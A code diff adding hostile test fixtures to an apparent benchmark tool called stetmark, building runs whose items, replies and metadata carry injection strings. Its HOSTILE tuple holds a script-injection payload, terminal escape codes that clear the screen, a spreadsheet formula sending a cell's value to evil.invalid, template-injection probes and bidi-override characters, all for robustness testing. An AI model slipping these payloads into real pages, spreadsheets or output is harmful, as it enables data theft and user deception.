@@ -8,10 +8,13 @@ from __future__ import annotations
 import random
 from collections.abc import Iterator
 from dataclasses import dataclass, field
+from pathlib import Path
+
+import msgspec
 
 from stetmark.records import Answer, Change, EditVerdict, GoldEdit, Item, Manifest, Score, Usage
 
-__all__ = ["Made", "make_run"]
+__all__ = ["HOSTILE", "Made", "hostile_run", "make_run", "write_run"]
 
 SENTENCES = {
     "en": (
@@ -253,3 +256,60 @@ def make_run(n_items: int = 40, n_systems: int = 7, seed: int = 1) -> Made:
         if score is not None:
             made.scores.append(score)
     return made
+
+
+ESC = "\x1b]0;owned\x07\x1b[31mred\x1b[2J"
+HOSTILE = (
+    '</script><img src=x onerror="window.owned=1"><script>window.owned=1</script>',
+    ESC + " and then the text goes on as it was before",
+    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
+    "{{ 7*7 }} ${7*7} <!-- --> ]]> &lt;b&gt; \\u003cscript\\u003e",
+    "a | b \\| c\r\nsecond\tline\u2028third \u202egnirts\u202c done\u200b\xa0.",
+)
+
+
+def hostile_run() -> Made:
+    """Items whose every text is an attack, answered in four hostile ways and judged by the real scorer."""
+    from stetmark.scores.judge import score_text
+
+    made = Made(
+        manifest=Manifest(
+            stetmark="0.1.0", created="2026-11-22T12:00:00Z", items_sha256="1" * 64,
+            items_name=HOSTILE[0], argv=("stetmark", HOSTILE[0]), notes=(HOSTILE[0],),
+            systems={HOSTILE[0]: {"note": HOSTILE[0]}}, prompts={HOSTILE[2]: {"text": HOSTILE[0]}},
+        ),
+        items=[],
+    )  # fmt: skip
+    for number, attack in enumerate(HOSTILE):
+        reference = f"The first part stands here. {attack} And the last part stands there."
+        source = reference.replace("first", "frist").replace("last", "lsat")
+        item = Item(id=f"x{number} {attack}", source=source, reference=reference, lang="en", tier=attack[:20])
+        made.items.append(item)
+        replies = {
+            "copies": source,
+            HOSTILE[0]: reference,
+            HOSTILE[2]: reference.replace("stands", attack, 1),
+            "wraps\x1b[2J": f"Sure! {attack}:\n\n{reference}\n\n{attack}",
+        }
+        for system, reply in replies.items():
+            score = score_text(item.source, item.reference, reply)
+            made.scores.append(msgspec.structs.replace(score, item=item.id, system=system))
+            made.answers.append(Answer(item=item.id, system=system, outcome="complete", reply=reply))
+        made.answers.append(Answer(item=item.id, system="fails", outcome="failed", error=attack))
+    return made
+
+
+def write_run(made: Made, path: Path) -> Path:
+    """Write a made run as a run folder with scores and summary."""
+    from stetmark.scores.metrics import summarize
+    from stetmark.store import RunFolder
+    from stetmark.summary import dump_summary
+
+    folder = RunFolder.create(path, made.manifest, made.items)
+    with folder.append_answers() as appender:
+        for answer in made.answers:
+            appender.append(answer)
+    folder.write_scores(made.scores)
+    summary = summarize(made.items, made.scores, made.answers, signature=made.manifest.signature)
+    folder.write_summary(dump_summary(summary))
+    return path
